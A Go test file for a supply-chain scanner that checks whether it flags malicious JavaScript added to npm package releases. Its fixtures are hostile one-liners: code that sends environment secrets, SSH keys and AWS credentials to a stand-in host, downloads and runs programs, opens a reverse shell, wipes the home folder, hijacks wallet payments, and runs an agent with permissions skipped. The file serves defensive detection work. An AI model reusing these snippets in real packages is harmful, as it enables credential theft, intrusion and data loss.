package signal

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/lockkeeper/lockkeeper/internal/artifact"
)

// Each text is inert: it names hosts that no network has, and is never run.
func TestBehaviourChain(t *testing.T) {
	const (
		onImport = artifact.AtImport
		install  = artifact.AtInstall
	)
	before := []source{{"index.js", onImport, index}}
	appended := func(text string) []source { return []source{{"index.js", onImport, index + text}} }
	beside := func(path string, reach artifact.Reach, text string) []source {
		return append([]source{{path, reach, text}}, before...)
	}
	far := strings.Repeat("module.exports.a = function (b, c) { return b + c }\n", 200)
	for _, test := range []struct {
		name   string
		latest []source
		chains string
	}{
		{"nothing new", before, ""},
		{"the whole environment to a new address", appended("require('https').request('https://drop.invalid/').end(JSON.stringify(process.env))\n"), "secrets-sent"},
		{"the whole environment in an object", appended("fetch('https://drop.invalid/', {method: 'POST', body: JSON.stringify({env: process.env})})\n"), "secrets-sent"},
		{"a named secret to a new address", appended("const t = process.env.NPM_TOKEN\nfetch('https://drop.invalid/?' + t)\n"), "secrets-sent"},
		{"secrets of two services to wherever it is told", appended("const a = process.env.AWS_SECRET_ACCESS_KEY, b = fs.readFileSync(os.homedir() + '/.npmrc')\nfetch(to, {body: a + b})\n"), "secrets-sent"},
		{"a key in what is sent to a new address", appended("exports.check = async (seed) => { await fetch('https://drop.invalid/xc', {headers: {'ad-referral': seed}}) }\n"), "secrets-sent"},
		{"a secret's file, sent by a program", appended("require('child_process').execSync('curl -d @' + os.homedir() + '/.ssh/id_rsa https://drop.invalid/')\n"), "secrets-sent"},
		{"one secret for its own service", appended("fetch('https://api.github.invalid/user', {headers: {authorization: process.env.GITHUB_TOKEN}})\n"), ""},
		{"a secret for whoever calls himself so", appended("fetch('https://github.drop.invalid/user', {headers: {authorization: process.env.GITHUB_TOKEN}})\n"), "secrets-sent"},
		{"a key of a service that is not known, for it", appended("fetch('https://api.maps.invalid/', {headers: {authorization: process.env.MAPS_API_KEY}})\n"), ""},
		{"the same for another", appended("fetch('https://drop.invalid/', {headers: {authorization: process.env.MAPS_API_KEY}})\n"), "secrets-sent"},
		{"the package's own key", appended("fetch('https://api.left.invalid/', {headers: {authorization: process.env.LEFT_PAD_TOKEN}})\n"), ""},
		{"a setting and a new address", appended("fetch('https://api.pad.invalid/' + process.env.REGION)\n"), ""},
		{"the environment for a child", appended("require('child_process').spawn('git', ['status'], {env: process.env})\n"), ""},
		{"a secret far from a connection", appended("exports.t = process.env.NPM_TOKEN\n" + far + "fetch('https://drop.invalid/')\n"), ""},
		{"the same in tests", beside("test/a.test.js", artifact.InTests, "fetch('https://drop.invalid/', {body: JSON.stringify(process.env)})\n"), ""},

		{"a program that is fetched, written and started", beside("setup.js", onImport,
			"const fs = require('fs'), cp = require('child_process')\nfetch('https://downloads.invalid/x/releases/download/v1/run').then(r => { fs.writeFileSync('/tmp/run', r)\nfs.chmodSync('/tmp/run', 0o755)\ncp.spawn('/tmp/run') })\n"),
			"download-executed"},
		{"in two files that are new, of which one loads the other", append(beside("a.js", onImport, "const cp = require('child_process')\nconst get = require('./b')\ncp.spawn('/tmp/run')\n"),
			source{"b.js", onImport, "const fs = require('fs')\nfetch('https://downloads.invalid/x/releases/download/v1/run').then(r => fs.writeFileSync('/tmp/run', r))\n"}), "download-executed"},
		{"a shell script that fetches a program and makes it one", beside("get.sh", install, "curl http://files.invalid/x -o /nonexistent/x\nchmod +x /nonexistent/x\n/nonexistent/x\n"), "download-executed"},
		{"the same in a text that an import may show", appended("exports.help = 'curl -fsSL https://pad.invalid/install | sh'\n"), ""},
		{"a file that is fetched and written", beside("get.js", onImport, "fetch('https://downloads.invalid/data.json').then(r => require('fs').writeFileSync('data.json', r))\n"), ""},

		{"an answer that runs", appended("require('axios').get('https://drop.invalid/c').then(r => eval(r.data))\n"), "answer-evaluated"},
		{"a member of all functions is no evaluation", appended("fetch('https://api.pad.invalid/')\nconst { toString } = Function.prototype\n"), ""},
		{"a module of WebAssembly", appended("fetch('https://pad.invalid/pad.wasm').then(r => WebAssembly.instantiateStreaming(r))\n"), ""},
		{"decrypted text that runs", appended("const d = require('crypto').createDecipheriv('aes-256-cbc', k, v)\nnew module.constructor()._compile(d.update(x), '')\n"), "decrypted-evaluated"},

		{"decoded text in a module of its own", appended("const f = new module.constructor\nf[k](Buffer.from(x, 'hex').toString(), '')\n"), "decrypted-evaluated"},

		{"a worm's publishing", beside("bundle.js", install, "const cp = require('child_process')\nconst t = process.env.NPM_TOKEN\ncp.execSync('npm publish --access public')\n"), "self-published"},
		{"a wallet and a browser's functions", appended("const e = window.ethereum.request\nwindow.ethereum.request = f\nXMLHttpRequest.prototype.open = g\n"), "hook-sent"},
		{"a wallet", appended("window.ethereum.request({method: 'eth_accounts'})\n"), ""},
		{"a wallet's function that pays another account", appended("const e = window.ethereum.request\nwindow.ethereum.request = (a) => { a.params[0].to = '0x9f8a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c'\nreturn e(a) }\n"), "hook-sent"},
		{"an account beside a call of a wallet", appended("exports.pay = () => window.ethereum.request({to: '0x9f8a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c'})\n"), ""},
		{"a browser's function that is timed", appended("const f = window.fetch\nwindow.fetch = (...a) => { performance.mark(a[0])\nreturn f(...a) }\n"), ""},

		{"a picture that runs", appended("const d = fs.readFileSync(__dirname + '/logo.png')\nmodule._compile(d.subarray(900).toString(), '')\n"), "file-evaluated"},
		{"a file that is read beside a context of its own", appended("const d = fs.readFileSync(f)\nrequire('vm').runInNewContext(d, {})\n"), ""},
		{"a module from a new address", appended("import('https://drop.invalid/m.mjs')\n"), "answer-evaluated"},
		{"the debugger beside a new address", appended("require('inspector')\nfetch('https://api.pad.invalid/')\n"), ""},
		{"a shell's file", appended("fs.appendFileSync(os.homedir() + '/.bashrc', 'node x')\n"), "planted"},
		{"a shell's file that is read", appended("fs.readFileSync(os.homedir() + '/.bashrc')\n"), ""},
		{"an agent's settings, by a program", beside("cli.js", artifact.AsProgram, "require('fs').writeFileSync('.claude/settings.json', x)\n"), ""},
		{"a shell over a socket", appended("const s = require('net').connect(1, 'drop.invalid')\nconst c = require('child_process').spawn('/bin/sh')\ns.pipe(c.stdin)\n"), "shell-handed"},
		{"the user's name to a new address, at install", beside("setup.js", install, "fetch('https://drop.invalid/' + require('os').userInfo().username)\n"), "machine-told"},
		{"the same on import", appended("fetch('https://drop.invalid/' + require('os').userInfo().username)\n"), ""},
		{"two facts on import", appended("const os = require('os')\nfetch('https://drop.invalid/' + os.userInfo().username + os.hostname())\n"), "machine-told"},
		{"a header that runs", appended("exports.a = (req) => eval(req.headers['x-a'])\n"), "request-run"},
		{"a query that a shell runs", appended("const q = req.query.q\nrequire('child_process').exec(q)\n"), "request-run"},
		{"a header beside a function of a text", appended("const role = req.headers['x-a']\nconst rule = new Function('user', options.rule)\n"), ""},
		{"all of the home folder", beside("setup.sh", install, "rm -rf ~/*\n"), "destroyed"},
		{"a folder below it", beside("setup.sh", install, "rm -rf ~/.cache/pad\n"), ""},
		{"secrets of an agent that was told to look", appended("require('child_process').exec('agent --dangerously-skip-permissions', (e, out) => fetch('https://drop.invalid/', {body: out}))\n"), "secrets-sent"},
		{"names of a path one by one", appended("const f = path.join(os.homedir(), '.aws', 'credentials')\nfetch('https://drop.invalid/', {body: f})\n"), "secrets-sent"},
		{"a key in the address of a picture", appended("new Image().src = 'https://drop.invalid/?' + wallet.privateKey\n"), "secrets-sent"},
		{"modules that are loaded again", appended("delete require.cache[x]\nfetch('https://api.pad.invalid/')\n"), ""},
	} {
		d := between(before, test.latest)
		var got []string
		for _, f := range Run(d, judged()) {
			if f.Signal == behaviourChain.ID {
				got = append(got, f.Facts[0].Value)
			}
		}
		if strings.Join(got, " ") != test.chains {
			t.Errorf("%s: %q, want %q\n%+v", test.name, got, test.chains, d.Content.Delta.News)
		}
	}
}

// A package that is new here has nothing but news: only what runs at install, or
// is decrypted and run, is a chain.
func TestChainsOfANewPackage(t *testing.T) {
	const steals = "fetch('https://drop.invalid/', {body: JSON.stringify(process.env)})\n"
	const decrypts = "const d = require('crypto').createDecipher('aes256', k)\nnew module.constructor()._compile(d.update(x), '')\n"
	const robs = "const a = h + '/.npmrc', b = h + '/.aws/credentials'\nfetch(to, {body: a + b})\n"
	for _, test := range []struct {
		name string
		file source
		want bool
	}{
		{"at install", source{"setup.js", artifact.AtInstall, steals}, true},
		{"on import", source{"index.js", artifact.AtImport, steals}, false},
		{"decrypted on import", source{"index.js", artifact.AtImport, decrypts}, true},
		{"files of two services on import", source{"index.js", artifact.AtImport, robs}, true},
		{"files of two clouds on import", source{"index.js", artifact.AtImport, strings.ReplaceAll(robs, ".npmrc", ".config/gcloud")}, false},
	} {
		d := brought(test.file)
		d.Change.Name = "pad-of-the-acme"
		got := said(Run(d, judged()), behaviourChain.ID)
		if (len(got) == 1) != test.want {
			t.Errorf("%s: %q", test.name, got)
		}
	}
}

// What a widely used package has always done is no news to anybody, once the
// release stood for a week.
func TestChainsOfAWidelyUsedPackage(t *testing.T) {
	const drops = "fetch('https://pad.invalid/x/releases/download/v1/run').then(r => { fs.writeFileSync('run', r)\nrequire('child_process').spawn('run') })\n"
	for _, test := range []struct {
		name string
		age  time.Duration
		want int
	}{
		{"left-pad", 30 * day, 0}, {"left-pad", 6 * day, 1}, {"right-pad-of-the-acme", 30 * day, 1},
	} {
		d := brought(source{"setup.js", artifact.AtInstall, drops})
		d.Change.Name, d.Release.Published = test.name, now.Add(-test.age)
		if got := said(Run(d, judged()), behaviourChain.ID); len(got) != test.want {
			t.Errorf("%s, %s old: %q", test.name, test.age, got)
		}
	}
}

// A first place that is far away hides no other one.
func TestChainsSeeEveryPlace(t *testing.T) {
	far := strings.Repeat("exports.a = function (b, c) { return b + c }\n", 200)
	text := index + "fetch(a)\n" + far + "fetch('https://drop.invalid/', {body: JSON.stringify(process.env)})\n"
	d := between([]source{{"index.js", artifact.AtImport, index}}, []source{{"index.js", artifact.AtImport, text}})
	got := said(Run(d, judged()), behaviourChain.ID)
	if len(got) != 1 || !strings.Contains(got[0], "index.js:208") {
		t.Errorf("%q", got)
	}
}

func TestRuntimeDownload(t *testing.T) {
	before := []source{{"index.js", artifact.AtImport, index}}
	for _, test := range []struct {
		name, text string
		want       string
	}{
		{"a runtime", "fetch('https://downloads.invalid/oven-sh/bun/releases/download/bun.zip')\n",
			"30: left-pad 1.3.1 fetches a program, and 1.3.0 did not (oven-sh/bun/releases): index.js:7 (runs on import)."},
		{"a link in a message", "exports.help = 'see https://forge.invalid/x/releases/download/v1/pad.zip'\n", ""},
	} {
		got := strings.Join(said(Run(between(before, []source{{"index.js", artifact.AtImport, index + test.text}}), judged()), runtimeDownload.ID), " ")
		if got != test.want {
			t.Errorf("%s: %q, want %q", test.name, got, test.want)
		}
	}
}

// An address below a domain that the package names already is not new.
func TestNewHost(t *testing.T) {
	old := []source{{"index.js", artifact.AtImport, "fetch('https://api.pad.invalid/')\nfetch('https://one.github.io/')\n"}}
	latest := func(text string) []source { return []source{{"index.js", artifact.AtImport, old[0].text + text}} }
	for text, want := range map[string]string{
		"fetch('https://cdn.pad.invalid/x')\n":  "",
		"fetch('https://drop.invalid/x')\n":     "new-host 25",
		"fetch('https://two.github.io/x')\n":    "new-host 25",
		"exports.a = 'https://pad.example/x'\n": "new-host 15",
	} {
		if got := contentOf(between(old, latest(text))); got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}

// However much is new, the chains are found at once.
func TestManySteps(t *testing.T) {
	kinds := []string{"network", "secret", "write", "decode", "hook", "spread"}
	var news []artifact.News
	for i := range 2000 {
		n := artifact.News{Kind: artifact.NewUse, What: kinds[i%len(kinds)], Text: "x", Path: fmt.Sprint("lib/", i/200, ".js"), Reach: artifact.AtImport}
		for j := range 16 {
			n.Places = append(n.Places, i%200+j*200)
		}
		news = append(news, n)
	}
	start := time.Now()
	Run(told(news...), judged())
	if took := time.Since(start); took > 2*time.Second {
		t.Errorf("took %s", took)
	}
}
